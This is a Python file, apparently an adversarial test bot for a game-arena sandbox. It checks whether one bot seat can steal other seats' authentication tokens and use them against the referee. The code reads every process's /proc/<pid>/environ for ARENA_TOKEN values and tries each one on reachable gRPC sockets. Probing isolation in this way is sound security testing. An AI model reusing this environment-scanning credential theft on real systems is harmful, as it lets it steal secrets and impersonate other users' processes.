"""Looks for other seats' tokens in /proc and connects to the referee with
them, on its own socket and on every other seat's socket it can find."""

import os

import grpc
from adversary import Adversary, main, report
from reach import other_sockets

from arena.wire.gen.arena.v1 import arena_pb2 as pb


def stolen_tokens(own: str) -> set[str]:
    found = set()
    for pid in (p for p in os.listdir("/proc") if p.isdigit()):
        try:
            with open(f"/proc/{pid}/environ", "rb") as f:
                env = f.read().split(b"\0")
        except OSError:
            continue
        for item in env:
            if item.startswith(b"ARENA_TOKEN="):
                token = item.split(b"=", 1)[1].decode()
                if token != own:
                    found.add(token)
    return found


def sockets() -> list[str]:
    """Its own referee address, then the other seats' sockets within reach."""
    own = os.environ["ARENA_ADDRESS"]
    return [own] + [f"unix:{p}" for p in other_sockets(own.removeprefix("unix:"))]


def connect(token: str, address: str) -> str:
    """What the referee answers a Hello with `token`: its first message's kind."""
    hello = pb.BotMessage(hello=pb.Hello(token=token, bot_name="thief", protocol_version=1))
    with grpc.insecure_channel(address) as channel:
        play = channel.stream_stream("/arena.v1.Referee/Play",
                                     request_serializer=pb.BotMessage.SerializeToString,
                                     response_deserializer=pb.RefereeMessage.FromString)
        try:
            for msg in play(iter([hello]), timeout=5):
                return str(msg.WhichOneof("body"))
            return "stream closed"
        except grpc.RpcError as exc:
            return f"rpc error {exc.code().name}"


class TokenThief(Adversary):
    def attack(self) -> None:
        own = os.environ.get("ARENA_TOKEN", "")
        tokens = stolen_tokens(own)
        report("token search", f"found {len(tokens)} other tokens")
        addresses = sockets()
        report("sockets", f"{len(addresses) - 1} other sockets")
        for token in sorted(tokens) or ["x" * len(own)]:
            for address in addresses:
                report("token use", connect(token, address))


main(TokenThief())
